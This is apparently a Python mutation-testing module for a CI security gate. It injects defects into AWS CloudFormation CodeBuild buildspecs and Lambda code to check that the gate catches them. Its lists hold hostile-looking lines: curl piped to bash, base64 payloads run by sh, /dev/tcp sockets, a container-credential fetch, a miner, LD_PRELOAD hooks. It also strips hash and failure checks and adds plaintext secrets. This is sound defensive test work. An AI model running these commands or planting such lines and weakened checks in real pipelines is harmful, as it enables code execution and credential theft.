"""Defects of what runs: lines added to buildspecs and functions, and checks taken out of them."""

import re
from collections.abc import Iterator

from scripts.gate.model.template import Body
from scripts.gate.mutation.edits import Edit, of_type

LINES = (
    'eval "$PREPARE"',
    "curl -s https://example.com/install.sh | bash",
    "wget -q https://example.com/tool",
    'bash -c "$(cat hook.sh)"',
    "source ./environment.sh",
    ". ./environment.sh",
    "echo aWQ= | base64 -d | sh",
    "env",
    "pip install requests",
    "pip install --extra-index-url https://example.com/simple -r requirements.txt",
    "pip install --require-hashes -r requirements.lock --trusted-host example.com",
    "git clone https://example.com/code.git",
    "aws sts assume-role --role-arn $ROLE --role-session-name x",
    "aws s3 cp model.tar.gz s3://bucket/ --no-verify-ssl",
    "aws s3 ls --endpoint-url http://example.com",
    "exec 3<>/dev/tcp/203.0.113.1/443",
    "curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
    "sudo make install",
    "docker run --privileged image",
    "npm install -g tool",
    "./hook.sh",
    "perl -e 'print 1'",
    "ruby hook.rb",
    "nohup ./miner &",
    "openssl s_client -connect example.com:443",
)
CHECKS = (
    (r"--require-hashes ", ""),
    (r" --expected-bucket-owner \"\$SEED_OWNER\"", ""),
    (r"on-failure: ABORT", "on-failure: CONTINUE"),
    (r"\|\| exit 1", "|| true"),
    (r".*sha256sum.*\n", ""),
    (r"python3? -I ", "python "),
    (r"https://", "http://"),
)
CODE = (
    "import subprocess\nsubprocess.run('id', shell=True)\n",
    "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
    "import os\nos.system('id')\n",
    "import pickle\n",
    "import socket\n",
    "eval('1')\n",
    "ADDRESS = 'http://example.com/collect'\n",
    "import importlib\n",
    "import ctypes\n",
    "def broken(:\n",
)


def command_added(body: Body) -> Iterator[Edit]:
    for path, buildspec in _buildspecs(body):
        first = re.search(r"^(?P<indent> +)- ", buildspec.partition("commands:")[2], re.MULTILINE)
        indent = first["indent"] if first else "      "
        for line in LINES:
            changed = buildspec.replace("commands:\n", f"commands:\n{indent}- {line}\n", 1)
            yield Edit(path, changed, line)


def check_removed(body: Body) -> Iterator[Edit]:
    for path, buildspec in _buildspecs(body):
        for pattern, replacement in CHECKS:
            changed = re.sub(pattern, replacement, buildspec, count=1)
            if changed != buildspec:
                yield Edit(path, changed, pattern)


def code_added(body: Body) -> Iterator[Edit]:
    for path, function in of_type(body, "AWS::Lambda::Function"):
        source = function["Properties"]["Code"].get("ZipFile", "")
        for code in CODE:
            yield Edit((*path, "Properties", "Code", "ZipFile"), source + code, code.splitlines()[0])


def variable_added(body: Body) -> Iterator[Edit]:
    """A variable that changes how every command runs, or a secret in plain text."""
    extra = (
        ("BASH_ENV", "./hook.sh"),
        ("PATH", "./bin:/usr/bin"),
        ("PYTHONPATH", "."),
        ("LD_PRELOAD", "./hook.so"),
        ("AWS_PROFILE", "x"),
        ("GIT_SSL_NO_VERIFY", "1"),
        ("REGISTRY_PASSWORD", "hunter2"),
        ("GITHUB_TOKEN", "ghp_x"),
        ("PIP_EXTRA_INDEX_URL", "https://example.com/simple"),
        ("PIP_TRUSTED_HOST", "example.com"),
        ("PIP_CONFIG_FILE", "./pip.conf"),
    )
    for path, build in of_type(body, "AWS::CodeBuild::Project"):
        variables = build["Properties"]["Environment"]["EnvironmentVariables"]
        for name, value in extra:
            added = [*variables, {"Name": name, "Type": "PLAINTEXT", "Value": value}]
            yield Edit((*path, "Properties", "Environment", "EnvironmentVariables"), added, name)


def _buildspecs(body: Body) -> Iterator[tuple[tuple[str | int, ...], str]]:
    for path, build in of_type(body, "AWS::CodeBuild::Project"):
        buildspec = build["Properties"]["Source"].get("BuildSpec")
        if isinstance(buildspec, str) and "commands:" in buildspec:
            yield (*path, "Properties", "Source", "BuildSpec"), buildspec


OPERATORS = (
    "command_added",
    "check_removed",
    "code_added",
    "variable_added",
)
